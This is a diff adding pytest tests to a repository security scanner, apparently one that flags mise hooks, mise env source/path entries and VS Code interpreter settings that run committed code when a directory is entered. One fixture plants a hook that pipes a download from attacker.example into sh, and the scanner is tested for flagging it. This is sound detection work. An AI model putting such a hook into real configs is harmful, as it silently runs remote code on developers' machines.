@@ -93,3 +93,65 @@ def test_mise_puts_a_workspace_directory_first_on_path(machine):
         out = machine.run("AGT010")
         assert out.status is Status.FAIL and not out.advisory, (bad, out)
         assert out.evidence[0].detail.startswith("mise-env-path:")
+
+
+def test_nested_mise_hooks_are_judged_at_any_depth(machine):
+    """mise acts on the config of whatever directory a shell or an agent enters: a
+    packages/x/mise.toml whose enter hook pipes a download into a shell runs it the
+    moment someone cd's there. It is a finding at any depth, test data or not (mise
+    obeys a fixture directory's file too); a benign nested one is not; one inside an
+    installed package (node_modules) is the package's, left to the gate."""
+    machine.ws("packages/x/mise.toml", '[hooks]\nenter = "echo entering x"\n')
+    machine.ws("packages/y/.config/mise/config.toml", '[tools]\nnode = "22"\n')
+    assert machine.run("AGT010").status is Status.PASS
+    bad = '[hooks]\nenter = "curl -s https://attacker.example/m | sh"\n'
+    for rel in ("packages/x/mise.toml", "tests/fixtures/app/.mise.toml",
+                "packages/y/.config/mise/config.toml"):
+        machine.ws(rel, bad)
+        out = machine.run("AGT010")
+        assert out.status is Status.FAIL and not out.advisory, (rel, out)
+        assert [e.path for e in out.evidence] == [rel], out.evidence
+        assert out.evidence[0].detail.startswith("mise-hooks:"), out.evidence
+        assert out.evidence[0].line == 2
+        machine.ws(rel, '[tools]\nnode = "22"\n')
+    machine.ws("node_modules/pkg/mise.toml", bad)
+    assert machine.run("AGT010").status is Status.PASS
+
+
+def test_nested_mise_env_source_and_path(machine):
+    """mise's `_.source` and `_.path` of a nested config act on entering its directory as
+    the top's do."""
+    machine.ws("services/api/mise.toml", '[env]\n_.source = "./env.sh"\n')
+    out = machine.run("AGT010")
+    assert out.status is Status.FAIL and out.evidence[0].detail.startswith("mise-env-source:")
+    machine.ws("services/api/mise.toml", '[env]\n_.path = ["./bin"]\n')
+    out = machine.run("AGT010")
+    assert out.status is Status.FAIL and out.evidence[0].detail.startswith("mise-env-path:")
+
+
+def test_nested_vscode_settings_run_a_committed_interpreter(machine):
+    """VS Code opening packages/app obeys packages/app/.vscode/settings.json, its relative
+    paths and `${workspaceFolder}` relative to packages/app."""
+    machine.ws("packages/app/.vscode/settings.json",
+               '{"python.defaultInterpreterPath": "tools/py"}')
+    machine.ws("tools/py", "#!/bin/sh\n")
+    assert machine.run("AGT010").status is Status.PASS  # not beside the folder it names
+    machine.ws("packages/app/tools/py", "#!/bin/sh\n")
+    out = machine.run("AGT010")
+    assert out.status is Status.FAIL
+    assert "packages/app/tools/py is a file of the repository" in out.evidence[0].detail
+    machine.ws("packages/app/.vscode/settings.json",
+               '{"python.defaultInterpreterPath": "${workspaceFolder}/tools/py"}')
+    assert machine.run("AGT010").status is Status.FAIL
+
+
+def test_more_nested_files_than_it_reads_is_unknown(machine, monkeypatch):
+    """Past the bound of files one setting reads, the rest are not judged: unknown, never
+    a pass that left a nested hook unread."""
+    from ztsa import surfacecheck
+
+    monkeypatch.setattr(surfacecheck, "MAX_FILES", 3)
+    for n in range(4):
+        machine.ws(f"packages/p{n}/mise.toml", '[tools]\nnode = "22"\n')
+    out = machine.run("AGT010")
+    assert out.status is Status.UNKNOWN and "more than 3" in out.message, out
